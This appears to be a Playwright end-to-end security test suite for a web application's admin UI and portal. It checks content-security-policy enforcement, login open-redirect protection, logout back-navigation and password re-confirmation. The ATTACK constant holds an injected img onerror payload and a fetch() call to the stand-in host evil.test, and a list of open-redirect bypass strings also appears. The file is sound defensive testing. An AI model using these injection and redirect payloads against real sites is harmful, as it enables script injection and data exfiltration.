import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'

import { withClient } from '@/scripts/provision'
import { DEMO_PASSWORD } from '@/seed/demoAccounts'
import { signInOpd, signInStaff } from '@/tests/support/browser'
import { watchPages } from '@/tests/support/pageWatch'
import { openSite } from '@/tests/support/site'

const site = openSite()

const asOwner = (text: string, values: unknown[] = []) =>
  withClient(site.server.databaseMigrationUrl, (client) => client.query(text, values))

/** What somebody would try who gets a text of theirs onto a page: run it, and tell another site. */
const ATTACK = `{
  const text = '<img src="https://evil.test/pixel.png" onerror="window.owned = true">'
  document.body.insertAdjacentHTML('beforeend', text)
  fetch('https://evil.test/').catch(() => undefined)
}`

describe('what a page may not do', () => {
  it.each([
    ['the admin UI', '/admin', signInStaff, 'inspektur'],
    ['the portal', '/opd', signInOpd, 'opd'],
  ])(
    'is stopped in %s, and the watch over all screens sees it',
    async (_place, path, enter, who) => {
      const page = await enter(site, who)
      const watch = await watchPages(page.context(), site.server.url)
      await page.goto(`${site.server.url}${path}`)
      await page.locator('h1').first().waitFor()
      expect(await watch.problems()).toEqual([])
      await page.evaluate(ATTACK)
      const seen = async (kind: string) =>
        (await watch.problems()).filter((one) => one.startsWith(kind)).sort()
      await expect
        .poll(() => seen('violation: '), { timeout: 10_000 })
        .toEqual([
          `violation: connect-src https://evil.test/ at ${path}`,
          `violation: img-src https://evil.test/pixel.png at ${path}`,
          `violation: script-src-attr inline at ${path}`,
        ])
      expect((await seen('console: ')).length).toBeGreaterThanOrEqual(3)
      expect(await page.evaluate('window.owned')).toBeUndefined()
      await page.context().close()
    },
  )
})

describe('signing in and out', () => {
  const EVIL = ['//evil.test', '/\\evil.test', '%2f%2fevil.test', 'https://evil.test/admin']

  const signIn = async (page: Page, query: string): Promise<void> => {
    await page.goto(`${site.server.url}/admin/login?redirect=${query}`)
    await page.locator('#field-email').fill('auditor@demo.test')
    await page.locator('#field-password').fill(DEMO_PASSWORD)
    await page.locator('form button[type=submit]').click()
    await page.waitForURL((address) => !address.pathname.endsWith('/login'))
  }

  it('leads to no other site, whatever the address asks for; to our own page it does', async () => {
    for (const target of EVIL) {
      const context = await site.browser.newContext()
      const page = await context.newPage()
      const watch = await watchPages(context, site.server.url)
      await signIn(page, encodeURIComponent(target))
      await page.locator('h1').first().waitFor()
      expect([target, new URL(page.url()).origin]).toEqual([target, site.server.url])
      expect([target, await watch.problems()]).toEqual([target, []])
      await context.close()
    }
    const page = await (await site.browser.newContext()).newPage()
    await signIn(page, encodeURIComponent('/admin/collections/reports'))
    await page.waitForURL(/\/admin\/collections\/reports/)
    await page.context().close()
  })

  it('shows nothing private on the way back after signing out of the admin UI', async () => {
    const page = await signInStaff(site, 'auditor2')
    await page.goto(`${site.server.url}/admin/collections/reports`)
    await page.locator('table').waitFor()
    await page.goto(`${site.server.url}/admin/account`)
    await page.locator('h1').first().waitFor()
    await page.goto(`${site.server.url}/admin/logout`)
    const names = async () => (await page.context().cookies()).map(({ name }) => name)
    await expect.poll(names, { timeout: 60_000 }).not.toContain('__Host-teropong-token')
    for (let step = 0; step < 2; step += 1) {
      // A page that is just being exchanged for another has no way back yet.
      const goBack = () =>
        page.goBack({ waitUntil: 'commit' }).then(
          () => true,
          () => false,
        )
      await expect.poll(goBack, { timeout: 60_000 }).toBe(true)
      await expect.poll(() => page.url(), { timeout: 60_000 }).toMatch(/\/admin\/log(in|out)/)
      expect(await page.locator('table, #field-name').count()).toBe(0)
    }
    await page.context().close()
  })
})

describe('text that is written with an editor, and files', () => {
  it('are made within the content policy', async () => {
    const page = await signInStaff(site, 'auditor')
    const watch = await watchPages(page.context(), site.server.url)
    await page.goto(`${site.server.url}/admin/collections/reports?limit=100`)
    const links = await page
      .locator('table tbody a[href*="/collections/reports/"]')
      .evaluateAll((found) => found.map((link) => link.getAttribute('href') ?? ''))
    let written = 0
    for (const link of [...new Set(links)]) {
      await page.goto(`${site.server.url}${link}`)
      await page.locator('h1').first().waitFor()
      const editor = page.locator('[data-lexical-editor][contenteditable=true]').first()
      const isOpen = await editor.waitFor({ timeout: 4000 }).then(
        () => true,
        () => false,
      )
      if (!isOpen) continue
      await editor.click()
      await page.keyboard.press('Control+b')
      await page.keyboard.type('Ditulis di penyunting. ')
      written += 1
      break
    }
    expect(written).toBe(1)
    expect(await watch.problems()).toEqual([])
    await page.context().close()
  })
})

describe('half an hour after signing in', () => {
  it('a change of an account asks for the password in a dialog and then saves what was typed', async () => {
    const page = await signInStaff(site, 'admin')
    const watch = await watchPages(page.context(), site.server.url)
    const { rows } = await asOwner(`SELECT id FROM users WHERE email = 'konsulen@demo.test'`)
    await page.goto(`${site.server.url}/admin/collections/users/${rows[0].id}`)
    await page.locator('#field-email').fill('konsulen.baru@demo.test')
    await page.locator('#field-position').fill('Konsulen Utama')
    await asOwner(`UPDATE users_sessions SET created_at = now() - interval '31 minutes'`)
    await page.locator('#action-save').click()
    const dialog = page.locator('dialog[open]')
    await dialog.locator('input[name=password]').fill('bukan sandinya')
    await dialog.locator('button[type=submit]').click()
    await dialog.locator('input[aria-invalid=true]').waitFor()
    await dialog.locator('input[name=password]').fill(DEMO_PASSWORD)
    await dialog.locator('button[type=submit]').click()
    await dialog.waitFor({ state: 'hidden' })
    await page.getByText('Tersimpan.').first().waitFor()
    const { rows: saved } = await asOwner('SELECT email, position FROM users WHERE id = $1', [
      rows[0].id,
    ])
    expect(saved).toEqual([{ email: 'konsulen.baru@demo.test', position: 'Konsulen Utama' }])
    expect(await watch.problems()).toEqual([])
    await page.context().close()
  })

  it('leaving the dialog saves nothing and keeps what was typed', async () => {
    const page = await signInStaff(site, 'admin')
    const { rows } = await asOwner(`SELECT id FROM users WHERE email = 'pimpinan@demo.test'`)
    await page.goto(`${site.server.url}/admin/collections/users/${rows[0].id}`)
    await page.locator('#field-email').fill('pimpinan.baru@demo.test')
    await asOwner(`UPDATE users_sessions SET created_at = now() - interval '31 minutes'`)
    await page.locator('#action-save').click()
    const dialog = page.locator('dialog[open]')
    await dialog.getByRole('button', { name: 'Tidak jadi' }).click()
    await page.getByText('Anda masuk lebih dari 30 menit yang lalu.').first().waitFor()
    expect(await page.locator('#field-email').inputValue()).toBe('pimpinan.baru@demo.test')
    const { rows: kept } = await asOwner('SELECT email FROM users WHERE id = $1', [rows[0].id])
    expect(kept).toEqual([{ email: 'pimpinan@demo.test' }])
    await page.context().close()
  })
})
